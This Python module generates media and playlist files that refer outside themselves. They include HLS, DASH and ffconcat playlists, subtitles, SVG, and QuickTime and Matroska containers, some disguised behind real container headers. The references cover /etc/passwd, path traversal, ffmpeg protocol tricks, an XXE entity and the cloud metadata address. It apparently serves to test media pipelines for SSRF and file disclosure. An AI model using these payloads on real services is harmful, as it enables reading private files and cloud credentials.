"""Files that ask whoever reads them to open something else: a file of ours, or a connection.

Made by code, as makers of such files do it: playlists and scripts that call themselves videos, and containers
that point out of themselves. Pure.
"""

import struct
from collections.abc import Callable
from itertools import chain

Text = Callable[[str], str]

_HLS = "#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-TARGETDURATION:9\n#EXT-X-MEDIA-SEQUENCE:0\n"
_END = "#EXT-X-ENDLIST\n"
_HERE = "#EXTINF:9,\n"

# each a text around one reference
FORMATS: dict[str, Text] = {
    "hls": lambda uri: f"{_HLS}{_HERE}{uri}\n{_END}",
    "hls-variant": lambda uri: f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{uri}\n",
    "hls-map": lambda uri: f'{_HLS}#EXT-X-MAP:URI="{uri}"\n{_HERE}{uri}\n{_END}',
    "hls-key": lambda uri: f'{_HLS}#EXT-X-KEY:METHOD=AES-128,URI="{uri}"\n{_HERE}{uri}\n{_END}',
    "hls-audio": lambda uri: (
        f'#EXTM3U\n#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="a",DEFAULT=YES,URI="{uri}"\n'
        f'#EXT-X-STREAM-INF:BANDWIDTH=1,AUDIO="a"\n{uri}\n'
    ),
    "ffconcat": lambda uri: f"ffconcat version 1.0\nfile '{uri}'\nduration 1\n",
    "concat": lambda uri: f"file '{uri}'\n",
    "dash": lambda uri: (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"'
        ' mediaPresentationDuration="PT9S"><Period><AdaptationSet mimeType="video/mp4">'
        f'<Representation id="1" bandwidth="1"><BaseURL>{uri}</BaseURL>'
        f'<SegmentList duration="9"><Initialization sourceURL="{uri}"/>'
        f'<SegmentURL media="{uri}"/></SegmentList></Representation></AdaptationSet></Period></MPD>'
    ),
    "xxe": lambda uri: (
        f'<?xml version="1.0"?><!DOCTYPE MPD [<!ENTITY x SYSTEM "{uri}">]><MPD><BaseURL>&x;</BaseURL></MPD>'
    ),
    "xspf": lambda uri: (
        '<?xml version="1.0"?><playlist version="1" xmlns="http://xspf.org/ns/0/"><trackList><track>'
        f"<location>{uri}</location></track></trackList></playlist>"
    ),
    "asx": lambda uri: f'<ASX version="3.0"><Entry><Ref href="{uri}"/></Entry></ASX>',
    "pls": lambda uri: f"[playlist]\nFile1={uri}\nNumberOfEntries=1\nVersion=2\n",
    "smil": lambda uri: f'<smil><body><video src="{uri}"/></body></smil>',
    "svg": lambda uri: f'<svg xmlns:x="http://www.w3.org/1999/xlink"><image x:href="{uri}"/></svg>',
    "webvtt": lambda uri: f"WEBVTT\n\nSTYLE\n::cue {{ src: url({uri}) }}\n\n00:00.000 --> 00:09.000\n{uri}\n",
    "srt": lambda uri: f'1\n00:00:00,000 --> 00:00:09,000\n<font face="{uri}"><img src="{uri}"></font>\n',
    "ass": lambda uri: (
        f"[Script Info]\nScriptType: v4.00+\nVideo File: {uri}\n\n[V4+ Styles]\nFormat: Name, Fontname\n"
        f"Style: Default,{uri}\n\n[Events]\nFormat: Start, End, Style, Text\n"
        f"Dialogue: 0:00:00.00,0:00:09.00,Default,{{\\fn{uri}}}x\n"
    ),
    "avisynth": lambda uri: f'FFmpegSource2("{uri}")\n',
    "ffmetadata": lambda uri: f";FFMETADATA1\ntitle={uri}\n",
    "imf": lambda uri: (
        '<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016">'
        f"<Id>urn:uuid:0</Id><TrackFileId>{uri}</TrackFileId></CompositionPlaylist>"
    ),
}


def references(port: int, secret: str) -> dict[str, str]:
    """Ways to say a file of ours, or a line to ``port`` on loopback."""
    line = f"127.0.0.1:{port}/clip.ts"
    return {
        "http": f"http://{line}",
        "https": f"https://{line}",
        "tcp": f"tcp://127.0.0.1:{port}",
        "udp": f"udp://127.0.0.1:{port}",
        "rtmp": f"rtmp://{line}",
        "rtsp": f"rtsp://{line}",
        "ftp": f"ftp://{line}",
        "passwd": "file:///etc/passwd",
        "file": f"file://{secret}",
        "path": secret,
        "way-up": f"{'../' * 12}{secret.lstrip('/')}",
        "subfile": f"subfile,,start,0,end,9999999,,:{secret}",
        "concat-protocol": f"concat:{secret}|{secret}",
        "crypto": f"crypto+file://{secret}",
        "cache-http": f"cache:http://{line}",
        "async": f"async:{secret}",
        "unix": f"unix:{secret}.socket",
        "link-local": "http://169.254.169.254/latest/meta-data/",
    }


def texts(port: int, secret: str) -> dict[str, bytes]:
    """Every form with the two plainest references, and the forms that are followed with all of them."""
    said = references(port, secret)
    plain = {
        f"{form}-{name}": text(said[name]).encode()
        for form, text in FORMATS.items()
        for name in ("http", "file")
    }
    followed = {
        f"{form}-{name}": FORMATS[form](uri).encode()
        for form in ("hls", "ffconcat", "dash")
        for name, uri in said.items()
    }
    session = f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video {port} RTP/AVP 96\n"
    return plain | followed | {"sdp": (session + "a=rtpmap:96 H264/90000\n").encode()}


def disguised(port: int, secret: str) -> dict[str, bytes]:
    """The same texts behind the first bytes of a container that is let in."""
    said = references(port, secret)
    starts = {
        "mp4": b"\0\0\0\x18ftypisom\0\0\0\0isommp41",
        "free": b"\0\0\0\x08free",
        "matroska": b"\x1a\x45\xdf\xa3\x80",
        "avi": b"RIFF\xff\xff\xff\x7fAVI ",
        "flv": b"FLV\x01\x05\0\0\0\x09\0\0\0\0",
        "mpeg": b"\0\0\x01\xba",
        "ogg": b"OggS\0\x02",
        "asf": bytes.fromhex("3026b2758e66cf11a6d900aa0062ce6c"),
    }
    found = {
        f"{start}-{form}-{name}": head + b"\n" + FORMATS[form](said[name]).encode()
        for start, head in starts.items()
        for form, name in (("hls", "http"), ("ffconcat", "file"))
    }
    for form, name in (("hls", "http"), ("hls", "file"), ("ffconcat", "file")):
        found[f"mpegts-{form}-{name}"] = transport_stream(FORMATS[form](said[name]).encode())
    return found


def transport_stream(text: bytes) -> bytes:
    """A text that starts each 188 bytes with the sync byte of a transport stream."""
    body = text.ljust(187 * 10, b"\n")
    return b"".join(b"G" + body[at : at + 187] for at in range(0, len(body), 187))


def box(kind: bytes, *parts: bytes) -> bytes:
    body = b"".join(parts)
    return struct.pack(">I", 8 + len(body)) + kind + body


def full(kind: bytes, *parts: bytes, flags: int = 0) -> bytes:
    return box(kind, struct.pack(">I", flags), *parts)


def movies(port: int, secret: str) -> dict[str, bytes]:
    """QuickTime files whose samples, or whose whole, lie elsewhere."""
    said = references(port, secret)
    found: dict[str, bytes] = {}
    for name in ("http", "file", "path", "subfile"):
        uri = said[name].encode()
        found[f"dref-url-{name}"] = movie(full(b"url ", uri, b"\0"))
        found[f"dref-urn-{name}"] = movie(full(b"urn ", b"x\0", uri, b"\0"))
        found[f"dref-alias-{name}"] = movie(full(b"alis", alias(uri)))
        reference = full(b"rdrf", b"url ", struct.pack(">I", len(uri) + 1), uri, b"\0")
        whole = box(b"moov", box(b"rmra", box(b"rmda", reference)))
        found[f"reference-movie-{name}"] = box(b"ftyp", b"qt  \0\0\0\0qt  ") + whole
    uri = said["http"].encode()
    found["names-in-mp4"] = movie(full(b"url ", flags=1), box(b"udta", box(b"\xa9nam", b"\0\x40\0\0", uri)))
    found["sdp-in-mp4"] = movie(full(b"url ", flags=1), box(b"udta", box(b"hnti", box(b"sdp ", uri))))
    found["xmp-in-mp4"] = movie(full(b"url ", flags=1), box(b"uuid", bytes(16), b"<x:xmpmeta src='" + uri))
    return found


def alias(path: bytes) -> bytes:
    """A Macintosh alias record with an absolute path, which ffmpeg can be told to follow."""
    record = bytearray(150)
    record[10:15] = b"\x04disk"
    record[50:55] = b"\x04clip"
    whole = b"disk" + path
    padded = whole + b"\0" * (len(whole) % 2)
    return bytes(record) + struct.pack(">hH", 2, len(whole)) + padded + b"\xff\xff\0\0"


def movie(reference: bytes, *more: bytes) -> bytes:
    """Ten raw pictures of 64 × 64 that a data reference says where to find."""
    size, count = 64 * 64 * 3, 10
    matrix = struct.pack(">9I", 1 << 16, 0, 0, 0, 1 << 16, 0, 0, 0, 1 << 30)
    entry = box(
        b"raw ", bytes(6), struct.pack(">H", 1), bytes(16), struct.pack(">HH", 64, 64),
        struct.pack(">IIIH", 72 << 16, 72 << 16, 0, 1), bytes(32), struct.pack(">Hh", 24, -1),
    )  # fmt: skip
    table = box(
        b"stbl",
        full(b"stsd", struct.pack(">I", 1), entry),
        full(b"stts", struct.pack(">III", 1, count, 40)),
        full(b"stsc", struct.pack(">IIII", 1, 1, count, 1)),
        full(b"stsz", struct.pack(">II", size, count)),
        full(b"stco", struct.pack(">II", 1, 0)),
    )
    information = box(
        b"minf",
        full(b"vmhd", bytes(8), flags=1),
        box(b"dinf", full(b"dref", struct.pack(">I", 1), reference)),
        table,
    )
    media = box(
        b"mdia",
        full(b"mdhd", struct.pack(">IIIII", 0, 0, 1000, 40 * count, 0)),
        full(b"hdlr", b"mhlrvide", bytes(13)),
        information,
    )
    times = struct.pack(">IIIII", 0, 0, 1, 0, 40 * count)
    track = box(
        b"trak",
        full(b"tkhd", times, bytes(16), matrix, struct.pack(">II", 64 << 16, 64 << 16), flags=3),
        media,
    )
    header = full(
        b"mvhd", struct.pack(">IIIIIH", 0, 0, 1000, 40 * count, 1 << 16, 256), bytes(10), matrix, bytes(28)
    )
    return box(b"ftyp", b"qt  \0\0\0\0qt  ") + box(b"moov", header, track, *more)


def element(identifier: str, *parts: bytes) -> bytes:
    body = b"".join(parts)
    return bytes.fromhex(identifier) + struct.pack(">Q", 1 << 56 | len(body)) + body


def matroskas(port: int, secret: str) -> dict[str, bytes]:
    """Matroska files that name their neighbours, and bring fonts and scripts along."""
    said = references(port, secret)
    found: dict[str, bytes] = {}
    for name in ("http", "file", "path"):
        uri = said[name].encode()
        linked = element(
            "1549a966", element("2ad7b1", b"\x0f\x42\x40"), element("3c83ab", uri), element("3e83bb", uri)
        )
        playlist, subtitles = (FORMATS[form](said[name]).encode() for form in ("hls", "ass"))
        font = (element("466e", uri), element("4660", b"application/x-truetype-font"), element("46ae", b"\1"))
        attached = element("1941a469", element("61a7", *font, element("465c", playlist)))
        numbers = (element("d7", b"\1"), element("73c5", b"\1"), element("83", b"\x11"))
        text = (element("86", b"S_TEXT/ASS"), element("63a2", subtitles))
        script = element("1654ae6b", element("ae", *numbers, *text))
        whole = {"linked": (linked,), "attached": (linked, attached), "script": (linked, script)}
        for kind, parts in whole.items():
            head = element("1a45dfa3", element("4282", b"matroska"))
            found[f"matroska-{kind}-{name}"] = head + element("18538067", *parts)
    return found


def everything(port: int, secret: str) -> dict[str, bytes]:
    """All of them by name. ``secret`` is the path of a real clip, so that following it would succeed."""
    kinds = (texts, disguised, movies, matroskas)
    return dict(chain.from_iterable(kind(port, secret).items() for kind in kinds))
